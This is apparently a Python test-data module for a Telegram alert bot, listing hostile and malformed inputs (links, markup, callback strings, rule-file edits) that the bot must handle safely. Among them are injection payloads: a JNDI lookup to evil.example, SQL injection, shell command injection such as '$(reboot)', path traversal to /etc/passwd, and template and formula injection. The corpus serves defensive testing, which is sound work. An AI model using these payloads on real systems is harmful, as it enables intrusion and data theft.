"""What somebody who means harm, or a broken machine, would send; docs/security.md counts it, and a test holds the count."""

from __future__ import annotations

LINKS = (
    "http://evil.example/x", "https://evil.example", "HTTPS://EVIL.EXAMPLE/PATH?q=1#f", "ftp://files.example/a",
    "tg://resolve?domain=evil",
    "ton://transfer/x", "t.me/evil", "T.ME/evil", "telegram.me/joinchat/AAAA", "evil.com", "see evil.com/path now", "(evil.org)",
    "evil.co.uk", "пример.рф", "例子.中国", "xn--e1afmkfd.xn--p1ai", "a@evil.com", "mailto:a@evil.com", "192.0.2.1", "192.0.2.1/login",
    "http://192.0.2.1:8080/", "user:pass@evil.com", "@evil", "@evil_bot", "Fed @durov said", "x @a1b2c3 y", "#airdrop", "#免费", "$SCAM",
    "$BTC to the moon", "/stop", "/stop@fedtide_bot", "press /start now", "Fed\n/stop", "evil.com.", "evil.com,evil.net;evil.org",
    "http:// evil.com", "//evil.com", "www.evil.com", "evil.com:443", "https://evil.example/<b>x</b>",
    "javascript://evil.com/%0aalert(1)",
)  # fmt: skip
"""What Telegram, by tdlib's rules, may make a link, a mention, a topic or a command of."""
MARKUP = (
    "<b>bold</b>", "<a href='https://evil.example'>Fed</a>", '<a href="tg://user?id=1">you</a>', "<script>alert(1)</script>", "</b></i>",
    "<tg-spoiler>x", "<pre>", "<blockquote expandable>", "<", ">", "&", "&lt;b&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&amp;lt;",
    "&bogus;",
    "&#0;", "&#xD800;", "<![CDATA[x]]>", "<!-- x -->", "<?xml version='1.0'?>", "<tg-emoji emoji-id='1'>x</tg-emoji>", "<b",
    "<b><i></b></i>",
    "[Fed](https://evil.example)", "*bold* _it_ `code`", "||spoiler||",
)  # fmt: skip
"""Tags and entities that must come out as the characters they are."""
ODD = (
    "", " ", "\n\n\n", "\t", "\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\x07", "\r\n", "\u202egnp.exe", "\u2066x\u2069", "\u200b", "\u200d",
    "\ufeff", "\ufffe", "\U000e0041", "e\u0301" * 200, "Z\u0351\u036b\u0343" * 50, "𝕱𝖊𝖉", "Ｆｅｄ", "\U0001f4a3" * 300, "\u0627\u0644",
    "A" * 5000, "word " * 2000, "{", "}", "{}", "{0}", "{title}", "{title.__class__}", "{count!r:>{width}}", "%s %n %d", "%(title)s",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "<%= 7*7 %>", "'; DROP TABLE alerts; --", "' OR 1=1 --", "\\", "\\u0000", "\\n",
    "=HYPERLINK('https://evil.example')", "+1-1", "@SUM(1)", "../../etc/passwd", "file:///etc/passwd", "NaN", "Infinity", "-0", "1e400",
    "9" * 400, "-1", "null", "None", "true", "[]", "[[[[[[[[", "2026-02-30", "25:61", "$(reboot)", "`reboot`", "; reboot", "| cat",
)  # fmt: skip
"""Controls, directions, lengths, templates, numbers, other languages' injections."""
TEXTS = LINKS + MARKUP + ODD

PRESSES = (
    "", "2", "2:", ":", "::", "2::", "1:sub", "3:sub", "02:sub", "2:SUB", "2:sub:1", "2:sub ", " 2:sub", "2:sub@", "2:sub@1", "2:sub@-1",
    "2:sub@-100", "2:sub@--1001234567", "2:sub@-10012345678901234567", "2:sub@-1001234567890@-1001234567890", "2:p", "2:p:", "2:p:admin",
    "2:p:settings:1", "2:p:../x", "2:l", "2:l:fr", "2:l:EN", "2:l:zh", "2:t", "2:t:1", "2:t:1:2", "2:t:1:2:101", "2:t:-1:0:0",
    "2:t:1:2:3:4",
    "2:t:²:0:0", "2:t:١:0:0", "2:t:1.0:0:0", "2:t:1e1:0:0", "2:t:+1:0:0", "2:t:01:0:0", "2:T:101:0:0", "2:T:0:0:NaN", "2:k",
    "2:k:minutes",
    "2:k:nothing:a:-:-:-", "2:k:minutes:x:-:-:-", "2:K:minutes:a:101:-:-", "2:K:minutes:a:-:-", "2:z:", "2:z:Mars/Base",
    "2:z:../../etc/passwd",
    "2:z:utc", "2:q:1", "2:q:60:-:-", "2:q:60:60:-", "2:q:1440:0:-", "2:q:-:-:101", "2:s", "2:s:2", "2:s:-1", "2:s:999999999",
    "2:d:x:1:1",
    "2:d:d:24:0", "2:d:w:0:7", "2:f:3", "2:f:", "2:r:fomc:7", "2:r:x:15", "2:r:fomc:1441", "2:v:x", "2:y", "2:y:-1", "2:y:1000000000001",
    "2:y:9999999999999999999", "2:y:x", "2:a:nothing", "2:i:../picture", "2:i:", "2:w:", "2:m:1", "2:m:1:10", "2:e:", "2:c:1:pause:2",
    "2:c:1:life:8", "2:c:1:x:1", "2:D", "2:D:-5", "2:D:1:2", "admin", "2:admin", "2a", "2a:", "2a:go:1", "2a:page:sources", "2a:stop:x",
    "\x00", "2:sub\x00", "2:\u202esub", "{}", "{0}", "%s", "' OR 1=1 --", "<b>", "A" * 64, "2:" + "x" * 62, "2" + ":" * 63, "null", "[]",
)  # fmt: skip
"""What no button of ours says."""

RULE_CHANGES = (
    ("version = 1", "version = 0"), ("version = 1", "version = -1"), ("version = 1", "version = 1.5"), ("version = 1", 'version = "1"'),
    ("version = 1", "version = true"), ("version = 1", "version = [1]"), ('id = "heavy-repos"', 'id = "../heavy"'),
    ('id = "heavy-repos"', 'id = ""'), ('id = "heavy-repos"', "id = 7"), ('id = "heavy-repos"', 'id = "Heavy Repos"'),
    ('id = "heavy-repos"', 'id = "<b>"'), ('"experimental"', '"gold"'), ('"experimental"', "1"), ('"repo_operation"', '"moon_landing"'),
    ('"repo_operation"', '"__class__"'), ('"repo_operation"', "[]"), ('"funding-stress"', '"magic"'), ('"funding-stress"', "{}"),
    ('rationale = "Because."', ""), ('rationale = "Because."', 'rationale = ""'), ('rationale = "Because."', "rationale = 1"),
    ('title = "Heavy repos"', ""), ('title = "Heavy repos"', "title = []"),
    ('url = "https://example.org/t"', 'url = "javascript:alert(1)"'),
    ('url = "https://example.org/t"', 'url = "file:///etc/passwd"'), ('url = "https://example.org/t"', "url = 1"),
    ("accessed = 2026-01-15", 'accessed = "soon"'), ("accessed = 2026-01-15", "accessed = 1"), ('["an exercise"]', '"an exercise"'),
    ('["an exercise"]', "[1]"), ("above = 5_000_000_000 }", "above = nan }"), ("above = 5_000_000_000 }", "above = inf }"),
    ("above = 5_000_000_000 }", 'above = "5" }'), ("above = 5_000_000_000 }", "above = true }"),
    ("above = 5_000_000_000 }", "above = [] }"),
    ("above = 5_000_000_000 }", "beyond = 5 }"), ("above = 5_000_000_000 }", "above = 5, below = 1 }"), ("above = 5_000_000_000 }", "}"),
    ('{ field = "day_accepted_usd", above', '{ field = "__import__", above'),
    ('{ field = "day_accepted_usd", above', "{ field = 1, above"),
    ('["ordinary", "month_end"]', "[]"), ('["ordinary", "month_end"]', '"ordinary"'), ('["ordinary", "month_end"]', '["ordinary", 1]'),
 ("is = true", 'is = "true"'), ("is = true", "is = 1"), ("is = true", "is = nan"),
    ('direction = "down"', 'direction = "sideways"'), ('direction = "down"', "direction = 1"), ('direction = "down"', ""),
    ("max = 0.6", "max = 60"), ("max = 0.6", "max = -0.6"), ("max = 0.6", "max = nan"), ("max = 0.6", "max = inf"),
    ("max = 0.6", 'max = "0.6"'),
    ("max = 0.6", "max = 0"), ("from = 5_000_000_000", "from = 50_000_000_000"), ("from = 5_000_000_000", "from = nan"),
    ("horizon_hours = 24", "horizon_hours = 0"), ("horizon_hours = 24", "horizon_hours = -1"),
    ("horizon_hours = 24", "horizon_hours = 1.5"),
    ("horizon_hours = 24", 'horizon_hours = "24"'), ('level = "judgement"', 'level = "proof"'), ('level = "judgement"', "level = 1"),
    ('claimed = "c"', "claimed = 1"), ("fires = true", "fires = 1"), ("fires = true", 'fires = "yes"'), ("fires = true", "fires = false"),
    ("day_accepted_usd = 1,", "moon = 1,"), ("day_accepted_usd = 1,", 'day_accepted_usd = "much",'), ("[condition]", "[conditions]"),
    ("[effect]", "[effects]"), ("[evidence]", "[proof]"), ("[condition]", "[condition]\nexec = 'x'"),
    ("[effect]", "[effect]\nscript = 'x'"),
    ("[rule]", "[rule]\nimport = 'os'"), ("[rule]", "[[rule]]"), ("[rule]", "[rule"), ("[rule]", "rule = 1"),
    ("[[example]]", "[example]"),
)  # fmt: skip
"""A good document, with one thing in it changed: what stands there, and what comes in its place."""
RULE_FILES = (
    b"", b"\x00", b"\xff\xfe[\x00r\x00", b"\xef\xbb\xbf", b"[",
    b"=" * 1000, b"a=" + b"[" * 5000, b"a=" + b"{a=" * 3000, b"[rule]\n" * 2, b"<rule/>",
    b"{}", b"- rule", b"rule: 1", b"#!/bin/sh\nreboot\n", b'"' * 3, b"a = 1e9999", b"a = " + b"9" * 5000, b"a = 99:99:99", b"\r",
    b"[a.b.c.d.e.f]",
)  # fmt: skip
"""What is no rule document at all."""
